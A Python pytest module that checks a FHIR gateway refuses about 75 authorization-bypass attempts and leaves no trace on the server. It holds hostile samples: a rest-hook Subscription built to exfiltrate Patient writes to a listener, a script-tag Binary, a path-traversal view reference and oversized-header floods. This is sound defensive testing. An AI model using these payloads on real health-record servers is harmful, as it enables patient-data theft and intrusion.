"""The gateway attacked: every way found to make it forward, read or write more than its policy and a key's scopes
allow, each a row with the status and OperationOutcome issue code it must get. Over real HTTP (the API served by
uvicorn on loopback) in front of a FHIR server of its own (the embedded one, started for this module), with a
loopback listener that must receive nothing: a Subscription stored by the FHIR server would send it every later
Patient write, which the last test makes. After the rows, the FHIR server must hold none of what they sent."""

from __future__ import annotations

import copy
import hashlib
import json
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import httpx
import pytest
import yaml
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import Response
from starlette.routing import Route

from casebridge.api.app import create_app
from casebridge.api.protocol import http_protocol
from casebridge.api.services import Services
from casebridge.config import Settings
from casebridge.fhir.embedded import EmbeddedFhirServer
from tests import loopback
from tests.conftest import SEED

from .test_api import FHIR_JSON, PATIENT, RO, RW

YAML = {"Content-Type": "application/yaml"}
OBS_ONLY = "obs-" + "o" * 30  # system/Observation.cu
UPDATE_ONLY = "upd-" + "u" * 30  # system/*.u: updates, never creates
WRITE_ONLY = "wo-" + "w" * 30  # system/*.cu: writes, never reads
BOUND = "bound-" + "b" * 30  # system/*.rs system/*.cu, patients of urn:example:registry-a only
NS_A = "urn:example:registry-a"
NS_B = "urn:example:registry-b"
KEYS = {"rw": RW, "ro": RO, "obs": OBS_ONLY, "upd": UPDATE_ONLY, "wo": WRITE_ONLY, "bound": BOUND, "none": ""}
MARK = "attack-row"  # an identifier value every attacking resource carries, looked for on the server afterwards


class Listener:
    """Where attacks point the FHIR server (Subscription endpoints, Endpoint addresses): it records every request."""

    def __init__(self) -> None:
        self.received: list[str] = []
        self.lock = threading.Lock()

    async def any(self, request: Request) -> Response:
        body = await request.body()
        with self.lock:
            self.received.append(f"{request.method} {request.url.path} {len(body)} bytes")
        return Response(status_code=200)

    def app(self) -> Starlette:
        methods = ["GET", "POST", "PUT", "DELETE", "PATCH"]
        return Starlette(routes=[Route("/{path:path}", self.any, methods=methods)])


@dataclass
class Gateway:
    api: httpx.Client
    fhir: httpx.Client
    listener: Listener
    listen_url: str
    audit_file: Path
    stored: dict[str, str] = field(default_factory=dict)  # what the set-up stored: name -> Type/id


def _keys_file(folder: Path) -> Path:
    def entry(name: str, secret: str, scopes: str, namespaces: list[str] | None = None) -> dict[str, Any]:
        out: dict[str, Any] = {"name": name, "secret_sha256": hashlib.sha256(secret.encode()).hexdigest()}
        out["scopes"] = scopes
        if namespaces:
            out["namespaces"] = namespaces
        return out

    path = folder / "keys.yaml"
    path.write_text(
        yaml.safe_dump(
            [
                entry("obs-writer", OBS_ONLY, "system/Observation.cu"),
                entry("updater", UPDATE_ONLY, "system/*.u"),
                entry("writer", WRITE_ONLY, "system/*.cu"),
                entry("registry-a", BOUND, "system/*.rs system/*.cu", [NS_A]),
                entry("registry-b", "reg-b-" + "q" * 30, "system/*.cu", [NS_B]),
            ]
        )
    )
    return path


@pytest.fixture(scope="module")
def gateway(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Gateway]:
    tmp = tmp_path_factory.mktemp("attacks")
    listener = Listener()
    with (
        EmbeddedFhirServer(tmp / "fhir") as server,
        loopback.serve(listener.app(), name="attack-listener") as listen_url,
    ):
        settings = Settings(
            fhir_base_url=server.base_url,
            api_keys=f"job:rw:{RW},analyst:ro:{RO}",
            api_keys_file=_keys_file(tmp),
            lock_dir=tmp / "locks",
            audit_file=tmp / "audit.jsonl",
        )
        services = Services.build(settings)  # the loopback server runs no lifespan: built here
        with (
            # As `casebridge serve` runs it: its HTTP protocol refuses request heads over the limit.
            loopback.serve(
                create_app(settings, services), name="attack-api", http=http_protocol(settings.max_header_bytes)
            ) as api_url,
            httpx.Client(base_url=api_url, timeout=60) as api,
            httpx.Client(base_url=server.base_url, timeout=60) as fhir,
        ):
            gw = Gateway(api, fhir, listener, listen_url, settings.audit_file or tmp)
            _store_other_clients_data(gw)
            yield gw
        services.runner.close()


def _store_other_clients_data(gw: Gateway) -> None:
    """Registry B's patient and observation, and the seed case, written by the rw key: what attacks go after."""
    patient_b = {**PATIENT, "id": "patient-b", "identifier": [{"system": NS_B, "value": "b-1"}]}
    observation_b = _observation("observation-b", "Patient/patient-b")
    patient_a = {**PATIENT, "id": "patient-a", "identifier": [{"system": NS_A, "value": "a-1"}]}
    response = gw.api.post(
        "/bundles",
        content=json.dumps(_transaction(*(_put(r) for r in (patient_b, observation_b, patient_a)))),
        headers={**_auth("rw"), **FHIR_JSON},
    )
    assert response.status_code == 200, response.text
    case = gw.api.post("/cases?push=true", content=SEED.read_bytes(), headers={**_auth("rw"), **YAML})
    assert case.status_code == 200, case.text
    for entry in case.json()["entry"]:
        location = entry["response"]["location"].split("/_history")[0]
        resource_type, resource_id = location.split("/")[-2:]
        gw.stored.setdefault(f"seed {resource_type}", f"{resource_type}/{resource_id}")


def _auth(key: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {KEYS[key]}"} if KEYS[key] else {}


def _observation(oid: str, subject: str | dict[str, Any], **extra: Any) -> dict[str, Any]:
    ref = {"reference": subject} if isinstance(subject, str) else subject
    return {
        "resourceType": "Observation",
        "id": oid,
        "identifier": [{"system": "urn:example:attack", "value": MARK}],
        "status": "final",
        "code": {"text": "body weight"},
        "subject": ref,
        "valueQuantity": {"value": 70, "unit": "kg", "system": "http://unitsofmeasure.org", "code": "kg"},
        **extra,
    }


def _entry(resource: dict[str, Any] | None, method: str, url: str, **request: Any) -> dict[str, Any]:
    entry: dict[str, Any] = {"request": {"method": method, "url": url, **request}}
    if resource is not None:
        entry["fullUrl"] = (
            f"urn:uuid:{hashlib.md5(json.dumps([resource, url]).encode()).hexdigest()[:8]}-1b2d-4e5f-8a9b-0c1d2e3f4a5b"
        )
        entry["resource"] = resource
    return entry


def _transaction(*entries: dict[str, Any]) -> dict[str, Any]:
    return {"resourceType": "Bundle", "type": "transaction", "entry": list(entries)}


def _patient(pid: str, system: str | None = NS_A, **extra: Any) -> dict[str, Any]:
    identifiers = [{"system": system, "value": MARK}] if system else []
    return {**copy.deepcopy(PATIENT), "id": pid, "identifier": identifiers, **extra}


LISTENER = "http://127.0.0.1:{port}/hook"  # filled in per row from the listener's address


def _subscription() -> dict[str, Any]:
    return {
        "resourceType": "Subscription",
        "id": "attack-subscription",
        "status": "requested",
        "reason": "exfiltration",
        "criteria": "Patient?",
        "channel": {
            "type": "rest-hook",
            "endpoint": LISTENER,
            "payload": "application/fhir+json",
            "header": ["Authorization: Bearer stolen"],
        },
    }


def _put(resource: dict[str, Any]) -> dict[str, Any]:
    return _entry(resource, "PUT", f"{resource['resourceType']}/{resource['id']}")


RUN = "/ViewDefinition/$viewdefinition-run"
VIEW_RUN: dict[str, Any] = {
    "resourceType": "Parameters",
    "parameter": [{"name": "viewReference", "valueReference": {"reference": "ViewDefinition/patient"}}],
}


@dataclass(frozen=True)
class Attack:
    name: str
    key: str
    body: Any  # a transaction (dict), raw bytes, or None
    status: int
    code: str | None
    path: str = "/bundles"
    method: str = "POST"
    headers: dict[str, str] = field(default_factory=lambda: dict(FHIR_JSON))


STRUCTURE_DEFINITION = {
    "resourceType": "StructureDefinition",
    "id": "attack-sd",
    "url": "http://example.org/StructureDefinition/attack",
    "name": "Attack",
    "status": "active",
    "kind": "resource",
    "abstract": False,
    "type": "Patient",
    "baseDefinition": "http://hl7.org/fhir/StructureDefinition/Patient",
    "derivation": "constraint",
    "differential": {"element": [{"id": "Patient", "path": "Patient"}]},
}
SEARCH_PARAMETER = {
    "resourceType": "SearchParameter",
    "id": "attack-sp",
    "url": "http://example.org/SearchParameter/attack",
    "name": "attack",
    "status": "active",
    "description": "x",
    "code": "attack",
    "base": ["Patient"],
    "type": "string",
    "expression": "Patient.name",
}
CODE_SYSTEM = {
    "resourceType": "CodeSystem",
    "id": "attack-cs",
    "url": "http://example.org/cs",
    "status": "active",
    "content": "complete",
}
VALUE_SET = {"resourceType": "ValueSet", "id": "attack-vs", "url": "http://example.org/vs", "status": "active"}
ENDPOINT = {
    "resourceType": "Endpoint",
    "id": "attack-endpoint",
    "status": "active",
    "connectionType": {
        "system": "http://terminology.hl7.org/CodeSystem/endpoint-connection-type",
        "code": "hl7-fhir-rest",
    },
    "payloadType": [{"text": "any"}],
    "address": LISTENER,
}
BINARY = {
    "resourceType": "Binary",
    "id": "attack-binary",
    "contentType": "text/html",
    "data": "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
}
AUDIT_EVENT = {
    "resourceType": "AuditEvent",
    "id": "attack-audit",
    "type": {"system": "http://terminology.hl7.org/CodeSystem/audit-event-type", "code": "rest"},
    "recorded": "2026-01-01T00:00:00Z",
    "agent": [{"who": {"display": "someone else"}, "requestor": True}],
    "source": {"observer": {"display": "casebridge"}},
}
PROVENANCE = {
    "resourceType": "Provenance",
    "id": "attack-provenance",
    "target": [{"reference": "Patient/patient-b"}],
    "recorded": "2026-01-01T00:00:00Z",
    "agent": [{"who": {"display": "someone else"}}],
}
CAPABILITY = {
    "resourceType": "CapabilityStatement",
    "id": "attack-cs",
    "status": "active",
    "date": "2026",
    "kind": "instance",
    "fhirVersion": "4.0.1",
    "format": ["json"],
}
OPERATION_DEFINITION = {
    "resourceType": "OperationDefinition",
    "id": "attack-op",
    "name": "x",
    "status": "active",
    "kind": "operation",
    "code": "x",
    "system": False,
    "type": False,
    "instance": False,
}


def _nested_bundle() -> dict[str, Any]:
    inner = _transaction(_put(_patient("attack-nested-patient", gender="robot")))
    return {**inner, "id": "attack-nested", "type": "collection"}


ATTACKS: list[Attack] = [
    # -- what may never be written: the FHIR server would act on it, or send data to another host ------------------
    Attack("Subscription rest-hook to a listener", "rw", _transaction(_put(_subscription())), 422, "not-supported"),
    Attack(
        "Subscription created by POST",
        "rw",
        _transaction(_entry(_subscription(), "POST", "Subscription")),
        422,
        "not-supported",
    ),
    Attack(
        "Subscription contained in an Observation",
        "rw",
        _transaction(_put(_observation("attack-obs-1", "Patient/patient-a", contained=[_subscription()]))),
        422,
        "not-supported",
    ),
    Attack("Endpoint pointing at a listener", "rw", _transaction(_put(ENDPOINT)), 422, "not-supported"),
    Attack("SearchParameter", "rw", _transaction(_put(SEARCH_PARAMETER)), 422, "not-supported"),
    Attack("StructureDefinition", "rw", _transaction(_put(STRUCTURE_DEFINITION)), 422, "not-supported"),
    Attack("CodeSystem", "rw", _transaction(_put(CODE_SYSTEM)), 422, "not-supported"),
    Attack("ValueSet", "rw", _transaction(_put(VALUE_SET)), 422, "not-supported"),
    Attack("CapabilityStatement", "rw", _transaction(_put(CAPABILITY)), 422, "not-supported"),
    Attack("OperationDefinition", "rw", _transaction(_put(OPERATION_DEFINITION)), 422, "not-supported"),
    Attack("Binary text/html", "rw", _transaction(_put(BINARY)), 422, "not-supported"),
    Attack(
        "Binary contained",
        "rw",
        _transaction(_put(_observation("attack-obs-2", "Patient/patient-a", contained=[BINARY]))),
        422,
        "not-supported",
    ),
    Attack("forged AuditEvent", "rw", _transaction(_put(AUDIT_EVENT)), 422, "not-supported"),
    Attack("forged Provenance", "rw", _transaction(_put(PROVENANCE)), 422, "not-supported"),
    Attack("nested Bundle around a Patient", "rw", _transaction(_put(_nested_bundle())), 422, "not-supported"),
    # -- interactions that are not writes ----------------------------------------------------------------------
    Attack(
        "DELETE the seed's Patient", "rw", _transaction(_entry(None, "DELETE", "SEED_PATIENT")), 422, "not-supported"
    ),
    Attack(
        "conditional DELETE", "rw", _transaction(_entry(None, "DELETE", "Patient?gender=female")), 422, "not-supported"
    ),
    Attack("GET every patient", "rw", _transaction(_entry(None, "GET", "Patient")), 422, "not-supported"),
    Attack("GET one patient", "rw", _transaction(_entry(None, "GET", "SEED_PATIENT")), 422, "not-supported"),
    Attack("HEAD", "rw", _transaction(_entry(None, "HEAD", "Patient")), 422, "not-supported"),
    Attack(
        "PATCH",
        "rw",
        _transaction(_entry({"resourceType": "Parameters", "parameter": []}, "PATCH", "SEED_PATIENT")),
        422,
        "not-supported",
    ),
    Attack(
        "POST _search",
        "rw",
        _transaction(_entry({"resourceType": "Parameters", "parameter": []}, "POST", "Patient/_search")),
        422,
        "not-supported",
    ),
    Attack(
        "operation $everything",
        "rw",
        _transaction(_entry({"resourceType": "Parameters", "parameter": []}, "POST", "Patient/patient-b/$everything")),
        422,
        "not-supported",
    ),
    Attack(
        "operation spelled %24",
        "rw",
        _transaction(_entry({"resourceType": "Parameters", "parameter": []}, "POST", "Patient/%24everything")),
        422,
        "not-supported",
    ),
    # -- writes the transaction rules do not allow -------------------------------------------------------------
    Attack(
        "PUT whose URL id is not the resource's",
        "rw",
        _transaction(_entry(_patient("attack-p1"), "PUT", "Patient/patient-b")),
        422,
        "invalid",
    ),
    Attack(
        "PUT without an id in the URL",
        "rw",
        _transaction(_entry(_patient("attack-p2"), "PUT", "Patient")),
        422,
        "invalid",
    ),
    Attack(
        "PUT of a resource without id",
        "rw",
        _transaction(_entry({k: v for k, v in _patient("x").items() if k != "id"}, "PUT", "Patient/attack-p3")),
        422,
        "invalid",
    ),
    Attack(
        "PUT to a version",
        "rw",
        _transaction(_entry(_patient("patient-b"), "PUT", "Patient/patient-b/_history/1")),
        422,
        "invalid",
    ),
    Attack(
        "POST to an id", "rw", _transaction(_entry(_patient("patient-b"), "POST", "Patient/patient-b")), 422, "invalid"
    ),
    Attack(
        "absolute URL of another server",
        "rw",
        _transaction(_entry(_patient("attack-p4"), "PUT", "http://127.0.0.1:1/fhir/Patient/attack-p4")),
        422,
        "invalid",
    ),
    Attack(
        "one URL written twice",
        "rw",
        _transaction(_put(_patient("attack-p5")), _put(_patient("attack-p5", gender="male"))),
        422,
        "business-rule",
    ),
    Attack(
        "one conditional create twice",
        "rw",
        _transaction(
            _entry(_patient("attack-p6"), "POST", "Patient", ifNoneExist=f"identifier={NS_A}|x"),
            _entry(_patient("attack-p7"), "POST", "Patient", ifNoneExist=f"identifier={NS_A}|x"),
        ),
        422,
        "business-rule",
    ),
    Attack(
        "one conditional update twice",
        "rw",
        _transaction(
            _entry(_patient("attack-p8"), "PUT", f"Patient?identifier={NS_A}|y"),
            _entry(_patient("attack-p9"), "PUT", f"Patient?identifier={NS_A}|y"),
        ),
        422,
        "business-rule",
    ),
    Attack(
        "more entries than the policy's limit",
        "rw",
        _transaction(*(_entry(_patient(f"attack-many-{i}"), "POST", "Patient") for i in range(1001))),
        422,
        "too-costly",
    ),
    Attack(
        "a batch, not a transaction",
        "rw",
        {**_transaction(_put(_patient("attack-p10"))), "type": "batch"},
        422,
        "invalid",
    ),
    # -- cost, before any key is looked at ---------------------------------------------------------------------
    Attack(
        "a 1 MB header without a key",
        "none",
        None,
        431,
        "too-long",
        path="/healthz",
        method="GET",
        headers={"X-Padding": "a" * (1 << 20)},
    ),
    Attack(
        "200 headers of 1 kB",
        "rw",
        None,
        431,
        "too-long",
        path="/diagnostic-reports",
        method="GET",
        headers={f"X-Pad-{i}": "b" * 1000 for i in range(200)},
    ),
    Attack(
        "a 60 kB URL and a 10 kB header",  # httpx sends no URL over 64 kB
        "rw",
        None,
        431,
        "too-long",
        path="/diagnostic-reports?patient=" + "c" * 60_000,
        method="GET",
        headers={"X-Padding": "d" * 10_000},
    ),
    # -- keys and their scopes ---------------------------------------------------------------------------------
    Attack("no key", "none", _transaction(_put(_patient("attack-p11"))), 401, "login"),
    Attack("read-only key writes", "ro", _transaction(_put(_patient("attack-p12"))), 403, "forbidden"),
    Attack(
        "Observation-only key writes a Patient",
        "obs",
        _transaction(_put(_observation("attack-obs-3", "Patient/patient-a")), _put(_patient("attack-p13"))),
        403,
        "forbidden",
    ),
    Attack(
        "update-only key creates",
        "upd",
        _transaction(_entry(_patient("attack-p14"), "POST", "Patient")),
        403,
        "forbidden",
    ),
    Attack("read-only key pushes a case", "ro", None, 403, "forbidden", path="/cases?push=true", headers=YAML),
    Attack("Observation-only key pushes a case", "obs", None, 403, "forbidden", path="/cases?push=true", headers=YAML),
    Attack("write-only key reads reports", "wo", None, 403, "forbidden", path="/diagnostic-reports", method="GET"),
    Attack(
        "Observation-only key reads reports", "obs", None, 403, "forbidden", path="/diagnostic-reports", method="GET"
    ),
    # -- a key bound to registry A's patients ------------------------------------------------------------------
    Attack(
        "bound key overwrites B's Patient by id", "bound", _transaction(_put(_patient("patient-b"))), 403, "forbidden"
    ),
    Attack(
        "bound key writes a Patient of B's namespace",
        "bound",
        _transaction(_put(_patient("attack-p15", system=NS_B))),
        403,
        "forbidden",
    ),
    Attack(
        "bound key writes a Patient with no identifier",
        "bound",
        _transaction(_put(_patient("attack-p16", system=None))),
        403,
        "forbidden",
    ),
    Attack(
        "bound key adds an Observation to B's Patient",
        "bound",
        _transaction(_put(_observation("attack-obs-4", "Patient/patient-b"))),
        403,
        "forbidden",
    ),
    Attack(
        "bound key takes B's Observation over by id",
        "bound",
        _transaction(_put(_observation("observation-b", "Patient/patient-a"))),
        403,
        "forbidden",
    ),
    Attack(
        "bound key refers to B's Patient by identifier",
        "bound",
        _transaction(
            _put(_observation("attack-obs-5", {"type": "Patient", "identifier": {"system": NS_B, "value": "b-1"}}))
        ),
        403,
        "forbidden",
    ),
    Attack(
        "bound key refers to a Patient nobody holds",
        "bound",
        _transaction(_put(_observation("attack-obs-6", "Patient/nobody-holds-this"))),
        403,
        "forbidden",
    ),
    Attack(
        "bound key refers to B's Patient from a contained resource",
        "bound",
        _transaction(
            _put(
                {
                    **_observation("attack-obs-7", "Patient/patient-a", hasMember=[{"reference": "#inner"}]),
                    "contained": [{**_observation("inner", "Patient/patient-b"), "id": "inner"}],
                }
            )
        ),
        403,
        "forbidden",
    ),
    Attack(
        "bound key refers to B's Patient by a conditional reference",
        "bound",
        _transaction(_put(_observation("attack-obs-8", f"Patient?identifier={NS_B}|b-1"))),
        403,
        "forbidden",
    ),
    Attack(
        "bound key's conditional reference matches by name",
        "bound",
        _transaction(_put(_observation("attack-obs-9", "Patient?family=Example"))),
        403,
        "forbidden",
    ),
    # -- found by review: forms a FHIR server reads differently from a naive check -------------------------------
    Attack(
        "bound key's conditional update matching nothing writes at B's Patient id",
        "bound",
        _transaction(_entry(_patient("patient-b"), "PUT", f"Patient?identifier={NS_A}|no-such")),
        403,
        "forbidden",
    ),
    Attack(
        "bound key's conditional update matching nothing writes at B's Observation id",
        "bound",
        _transaction(
            _entry(_observation("observation-b", "Patient/patient-a"), "PUT", "Observation?identifier=urn:x|none")
        ),
        403,
        "forbidden",
    ),
    Attack(
        "a fragment in a conditional URL",
        "bound",
        _transaction(_entry(_patient("attack-p20"), "PUT", f"Patient?identifier={NS_B}|b-1#x")),
        422,
        "invalid",
    ),
    Attack(
        "_elements in a condition",
        "rw",
        _transaction(
            _entry(
                _observation("attack-obs-10", "Patient/patient-a"), "PUT", "Observation?_id=observation-b&_elements=id"
            )
        ),
        422,
        "invalid",
    ),
    Attack(
        "_summary=count in an ifNoneExist",
        "rw",
        _transaction(_entry(_patient("attack-p21"), "POST", "Patient", ifNoneExist="_id=patient-b&_summary=count")),
        422,
        "invalid",
    ),
    Attack(
        "bound key's conditional update by a parameter it cannot check",
        "bound",
        _transaction(_entry(_observation("attack-obs-11", "Patient/patient-a"), "PUT", "Observation?code=x&zzz=1")),
        403,
        "forbidden",
    ),
    Attack(
        "bound key puts B's Patient in a list of references",
        "bound",
        _transaction(
            _put(_observation("attack-obs-12", "Patient/patient-a", performer=[{"reference": "Patient/patient-b"}]))
        ),
        403,
        "forbidden",
    ),
    Attack(
        "bound key refers to a POSTed Patient by the id the server will not keep",
        "bound",
        _transaction(
            _entry(_patient("patient-b"), "POST", "Patient"),
            _put(_observation("attack-obs-13", "Patient/patient-b")),
        ),
        403,
        "forbidden",
    ),
    Attack(
        "bound key refers to the fullUrl of a conditional create matching B's Patient",
        "bound",
        {
            "resourceType": "Bundle",
            "type": "transaction",
            "entry": [
                {
                    "fullUrl": "urn:uuid:5b0e5a4e-6f7d-4b8e-9a1c-2d3e4f5a6b7c",
                    "resource": _patient("attack-p22"),
                    "request": {"method": "POST", "url": "Patient", "ifNoneExist": f"identifier={NS_B}|b-1"},
                },
                _put(_observation("attack-obs-14", "urn:uuid:5b0e5a4e-6f7d-4b8e-9a1c-2d3e4f5a6b7c")),
            ],
        },
        403,
        "forbidden",
    ),
    Attack(
        "write-only key reads a stored Patient through ifNoneExist",
        "wo",
        _transaction(_entry(_patient("attack-p23"), "POST", "Patient", ifNoneExist="_id=patient-b")),
        403,
        "forbidden",
    ),
    Attack(
        "bound key refers to B's Patient at an odd version",
        "bound",
        _transaction(_put(_observation("attack-obs-15", "Patient/patient-b/_history/1_"))),
        403,
        "forbidden",
    ),
    Attack(
        "bound key refers to B's Patient by an identifier without type",
        "bound",
        _transaction(_put(_observation("attack-obs-16", {"identifier": {"system": NS_B, "value": "b-1"}}))),
        403,
        "forbidden",
    ),
    Attack(
        "bound key refers to B's Patient by an identifier typed 'patient'",
        "bound",
        _transaction(
            _put(_observation("attack-obs-17", {"type": "patient", "identifier": {"system": NS_B, "value": "b-1"}}))
        ),
        403,
        "forbidden",
    ),
    Attack(
        "bound key's Patient claims an identifier of B's namespace",
        "bound",
        _transaction(
            _put(
                {
                    **_patient("attack-p24"),
                    "identifier": [{"system": NS_A, "value": "x"}, {"system": NS_B, "value": "b-1"}],
                }
            )
        ),
        403,
        "forbidden",
    ),
    Attack(
        "bound key makes the check read 150 stored Patients",
        "bound",
        _transaction(
            _put(
                {
                    **_observation("attack-obs-18", "Patient/patient-a"),
                    "hasMember": [{"reference": f"#m{i}"} for i in range(150)],
                    "contained": [{**_observation(f"m{i}", f"Patient/nobody-{i}"), "id": f"m{i}"} for i in range(150)],
                }
            )
        ),
        422,
        "too-costly",
    ),
    Attack(
        "Observation-only key writes a contained Patient",
        "obs",
        _transaction(
            _put(
                {
                    **_observation("attack-obs-19", "#p"),
                    "contained": [{**_patient("p", system=NS_B), "id": "p"}],
                }
            )
        ),
        403,
        "forbidden",
    ),
    Attack(
        "bound key links its Patient to B's",
        "bound",
        _transaction(
            _put(_patient("attack-p19", link=[{"other": {"reference": "Patient/patient-b"}, "type": "seealso"}]))
        ),
        403,
        "forbidden",
    ),
    Attack(
        "bound key updates B's Patient by a conditional URL",
        "bound",
        _transaction(_entry(_patient("attack-p17"), "PUT", f"Patient?identifier={NS_B}|b-1")),
        403,
        "forbidden",
    ),
    Attack(
        "bound key overwrites the seed case by pushing it",
        "bound",
        None,
        403,
        "forbidden",
        path="/cases?push=true",
        headers=YAML,
    ),
    # Views run over the FHIR server: reading needs s and r on the view's type; no shipped-view name reaches a file
    # outside the shipped views; a source of the caller's choosing (another server, a listener) is refused.
    Attack("write-only key runs a view of Patients", "wo", VIEW_RUN, 403, "forbidden", path=RUN),
    Attack(
        "viewReference climbs out of the shipped views",
        "ro",
        {"resourceType": "Parameters", "parameter": [{"name": "viewReference", "valueString": "../../pyproject"}]},
        404,
        "not-found",
        path=RUN,
    ),
    Attack(
        "view run from a source of the caller's choosing",
        "ro",
        {**VIEW_RUN, "parameter": [*VIEW_RUN["parameter"], {"name": "source", "valueString": LISTENER}]},
        400,
        "not-supported",
        path=RUN,
    ),
]


def _body(gw: Gateway, attack: Attack) -> bytes | None:
    if attack.body is None:
        return SEED.read_bytes() if attack.path.startswith("/cases") else None
    port = gw.listen_url.rsplit(":", 1)[1]
    text = json.dumps(attack.body).replace(LISTENER, LISTENER.format(port=port))
    return text.replace("SEED_PATIENT", gw.stored["seed Patient"]).encode()


@pytest.mark.parametrize("attack", ATTACKS, ids=[a.name for a in ATTACKS])
def test_attack_is_refused(gateway: Gateway, attack: Attack) -> None:
    response = gateway.api.request(
        attack.method, attack.path, content=_body(gateway, attack), headers={**_auth(attack.key), **attack.headers}
    )
    assert response.status_code == attack.status, response.text[:800]
    assert response.headers["content-type"].startswith("application/fhir+json")
    outcome = response.json()
    assert outcome["resourceType"] == "OperationOutcome"
    codes = {i["code"] for i in outcome["issue"] if i["severity"] in ("error", "fatal")}
    assert attack.code in codes, outcome
    assert "Traceback" not in response.text


def test_there_are_at_least_40_attack_rows() -> None:
    assert len({a.name for a in ATTACKS}) == len(ATTACKS) >= 40


def test_a_refusal_names_the_entry(gateway: Gateway) -> None:
    bundle = _transaction(_put(_patient("attack-p18")), _put(_subscription()))
    response = gateway.api.post(
        "/bundles", content=_body(gateway, Attack("", "rw", bundle, 0, None)), headers={**_auth("rw"), **FHIR_JSON}
    )
    issue = response.json()["issue"][0]
    assert response.status_code == 422
    assert issue["expression"] == ["Bundle.entry[1].resource"]
    assert "Subscription is never forwarded" in issue["details"]["text"]


def test_what_keys_may_do_is_still_done(gateway: Gateway) -> None:
    """The controls: each key that was refused above does what its scopes and namespace allow."""
    own = _transaction(_put(_patient("a-own", gender="male")), _put(_observation("a-own-obs", "Patient/a-own")))
    response = gateway.api.post("/bundles", content=json.dumps(own), headers={**_auth("bound"), **FHIR_JSON})
    assert response.status_code == 200, response.text
    # Bound to A: its Observation of patient-a (stored earlier, A's) may be updated; by identifier reference too.
    mine = _transaction(
        _put(_observation("a-own-obs-2", "Patient/patient-a")),
        _put(_observation("a-own-obs-3", {"type": "Patient", "identifier": {"system": NS_A, "value": "a-1"}})),
        _put(_observation("a-own-obs-4", f"Patient?identifier={NS_A}|a-1")),
    )
    response = gateway.api.post("/bundles", content=json.dumps(mine), headers={**_auth("bound"), **FHIR_JSON})
    assert response.status_code == 200, response.text
    obs = _transaction(_put(_observation("obs-writer-1", "Patient/patient-a")))
    assert (
        gateway.api.post("/bundles", content=json.dumps(obs), headers={**_auth("obs"), **FHIR_JSON}).status_code == 200
    )
    update = _transaction(_put(_patient("patient-a")))
    assert (
        gateway.api.post("/bundles", content=json.dumps(update), headers={**_auth("upd"), **FHIR_JSON}).status_code
        == 200
    )
    reports = gateway.api.get("/diagnostic-reports", headers=_auth("ro"))
    assert reports.status_code == 200
    assert gateway.api.post("/cases", content=SEED.read_bytes(), headers={**_auth("obs"), **YAML}).status_code == 200


def test_the_fhir_server_holds_nothing_the_attacks_sent(gateway: Gateway) -> None:
    for resource_type in (
        "Subscription",
        "Endpoint",
        "SearchParameter",
        "StructureDefinition",
        "CodeSystem",
        "ValueSet",
        "Binary",
        "AuditEvent",
        "Provenance",
        "Bundle",
        "OperationDefinition",
    ):
        found = gateway.fhir.get(f"/{resource_type}", params={"_id": _ATTACK_IDS}).json()
        assert not found.get("entry"), (resource_type, found)
    for resource_id in (f"attack-obs-{n}" for n in range(1, 20)):
        assert gateway.fhir.get(f"/Observation/{resource_id}").status_code == 404
    for n in range(1, 25):
        assert gateway.fhir.get(f"/Patient/attack-p{n}").status_code == 404
    # What the attacks went after is as it was stored.
    assert gateway.fhir.get(f"/{gateway.stored['seed Patient']}").status_code == 200
    patient_b = gateway.fhir.get("/Patient/patient-b").json()
    assert patient_b["identifier"] == [{"system": NS_B, "value": "b-1"}]
    observation_b = gateway.fhir.get("/Observation/observation-b").json()
    assert observation_b["subject"] == {"reference": "Patient/patient-b"}
    assert gateway.fhir.get("/Patient", params={"identifier": f"urn:example:attack|{MARK}"}).json().get("total", 0) == 0


_ATTACK_IDS = ",".join(
    f"attack-{name}"
    for name in ("subscription", "endpoint", "sp", "sd", "cs", "vs", "binary", "audit", "provenance", "nested", "op")
)


def test_the_listener_receives_nothing(gateway: Gateway) -> None:
    """Last: a Patient written now would reach the listener had any attack stored a Subscription."""
    late = _transaction(_put(_patient("patient-written-last")))
    assert (
        gateway.api.post("/bundles", content=json.dumps(late), headers={**_auth("rw"), **FHIR_JSON}).status_code == 200
    )
    assert gateway.listener.received == []


def test_control_a_stored_subscription_reaches_the_listener(tmp_path: Path) -> None:
    """The attack is real: a Subscription stored behind casebridge's back (straight to the FHIR server) sends the
    next Patient write to the listener. So the listener test above can fail."""
    listener = Listener()
    with EmbeddedFhirServer(tmp_path / "fhir") as server, loopback.serve(listener.app()) as listen_url:
        with httpx.Client(base_url=server.base_url, timeout=30) as fhir:
            port = listen_url.rsplit(":", 1)[1]
            subscription = json.loads(json.dumps(_subscription()).replace(LISTENER, LISTENER.format(port=port)))
            assert fhir.put("/Subscription/attack-subscription", json=subscription).status_code in (200, 201)
            assert fhir.put("/Patient/p1", json={"resourceType": "Patient", "id": "p1"}).status_code in (200, 201)
        deadline = time.monotonic() + 10
        while not listener.received and time.monotonic() < deadline:
            time.sleep(0.05)
    assert listener.received and listener.received[0].startswith("PUT /hook/Patient/p1")


def test_refused_writes_are_audited_with_the_key_and_what_was_attempted(gateway: Gateway) -> None:
    lines = [json.loads(line) for line in gateway.audit_file.read_text().splitlines()]
    bundles = [line for line in lines if line["route"] == "/bundles"]
    subscription = next(line for line in bundles if any(e["type"] == "Subscription" for e in line.get("entries", [])))
    assert (subscription["key"], subscription["status"], subscription["outcome"]) == ("job", 422, "failure")
    taken_over = next(
        line
        for line in bundles
        if line["key"] == "registry-a"
        and {"type": "Observation", "id": "observation-b"}.items() <= next(iter(line.get("entries", [])), {}).items()
    )
    assert (taken_over["status"], taken_over["outcome"]) == (403, "failure")
    scoped = [line for line in bundles if line["key"] == "obs-writer" and line["status"] == 403]
    assert scoped and all(line["outcome"] == "failure" for line in scoped)
    assert not [line for line in bundles if line["status"] == 401]  # no known key: the request log has it
    assert "Example" not in gateway.audit_file.read_text()  # the patients' names are content, never recorded
